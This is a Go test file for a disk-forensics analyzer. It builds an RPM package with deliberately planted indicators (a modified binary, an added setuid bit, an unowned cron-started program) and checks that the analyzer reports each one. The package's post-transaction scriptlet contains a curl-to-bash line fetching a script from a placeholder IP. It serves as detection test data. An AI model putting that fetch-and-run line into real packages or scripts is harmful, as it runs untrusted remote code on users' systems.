package forensics_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"icecore/forensics"
	"icecore/forensics/model"
)

// rpmServer is a server with an RPM database: a package with a program that was changed,
// one that was made setuid, others that are as installed, and a scriptlet that downloads and runs something; and a
// program that no package owns.
const rpmServer = `
cat > s.spec <<'END'
Name: tools
Version: 1
Release: 1
Summary: x
License: MIT
AutoReqProv: no
%define debug_package %{nil}
%define __os_install_post %{nil}
%define _build_id_links none
%description
x
%install
mkdir -p %{buildroot}/usr/sbin %{buildroot}/etc/cron.d
for p in good bad raised su; do cp /bin/true %{buildroot}/usr/sbin/$p; done
echo '7 4 * * * root /usr/sbin/good' > %{buildroot}/etc/cron.d/tools
%post
/sbin/ldconfig
%posttrans
curl -fsSL http://203.0.113.77/i.sh | bash
%files
/usr/sbin/good
/usr/sbin/bad
/usr/sbin/raised
%attr(4755,root,root) /usr/sbin/su
%config(noreplace) /etc/cron.d/tools
END
rpmbuild -bb --quiet --define "_topdir $PWD/top" --define "_rpmdir $PWD/rpms" s.spec
mkdir -p root/etc root/usr/sbin root/var/log
printf 'NAME="Rocky Linux"\nID="rocky"\nVERSION_ID="9.4"\n' > root/etc/os-release
rpm --root "$PWD/root" --dbpath /var/lib/rpm -i --nodeps --noscripts rpms/*/*.rpm 2>/dev/null
echo 'x' >> root/usr/sbin/bad; cp /bin/true root/usr/sbin/own; chmod 4755 root/usr/sbin/raised
echo '* * * * * root /usr/sbin/own' > root/etc/cron.d/own; echo '# mine' >> root/etc/cron.d/tools
mke2fs -q -t ext4 -d root disk.img 32M
rm -r root/var/lib/rpm; mke2fs -q -t ext4 -d root none.img 32M
`

func TestRPMServer(t *testing.T) {
	for _, p := range []string{"rpm", "rpmbuild", "mke2fs"} {
		if _, err := exec.LookPath(p); err != nil {
			t.Skipf("%s is not installed", p)
		}
	}
	if os.Getuid() != 0 {
		t.Skip("rpm --root needs root")
	}
	dir := t.TempDir()
	c := exec.Command("sh", "-ec", rpmServer)
	c.Dir = dir
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	a, err := forensics.Analyze(context.Background(), filepath.Join(dir, "disk.img"), forensics.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for i := range a.Records {
		r := &a.Records[i]
		kinds = append(kinds, string(r.Kind))
		if r.Kind == model.PackageEntry && (r.Get("package") != "tools" || r.Get("version") != "1-1" || r.Time("installed").IsZero()) {
			t.Errorf("%+v", r)
		}
		if strings.HasPrefix(r.Get("what"), "setuid") && (r.Get("what") != "setuid_added" || r.Source.Path != "/usr/sbin/raised") {
			t.Errorf("%s: %s", r.Get("what"), r.Source.Path)
		}
		changed := r.Kind == "file.notable" && r.Get("what") == "package_file_changed"
		if changed && (r.Source.Path != "/usr/sbin/bad" || r.Get("owner") != "tools") {
			t.Errorf("changed: %s", r.Source.Path)
		}
		if changed {
			kinds = append(kinds, "changed")
		}
	}
	for _, want := range []string{"package.database", "package.entry", "package.script", "changed"} {
		if !slices.Contains(kinds, want) {
			t.Errorf("no record %s", want)
		}
	}
	var rules []string
	for i := range a.Findings {
		f := &a.Findings[i]
		rules = append(rules, f.Rule)
		if strings.Contains(f.Title+f.Description, "/usr/sbin/good") {
			t.Errorf("of a program of a package: %s: %s", f.Title, f.Description)
		}
	}
	for _, want := range []string{"package_script", "unowned_program_started", "file_setuid_added"} {
		if !slices.Contains(rules, want) {
			t.Errorf("no finding %s among %v", want, rules)
		}
	}
	unknown := func(a *forensics.Analysis) bool {
		return slices.ContainsFunc(a.Coverage.Gaps, func(g model.Gap) bool { return g.Subject == model.SubjectPackages })
	}
	if unknown(a) {
		t.Error("ownership is unknown")
	}
	if a, err = forensics.Analyze(context.Background(), filepath.Join(dir, "none.img"), forensics.Options{}); err != nil || !unknown(a) {
		t.Errorf("without a database ownership is known: %v", err)
	}
}
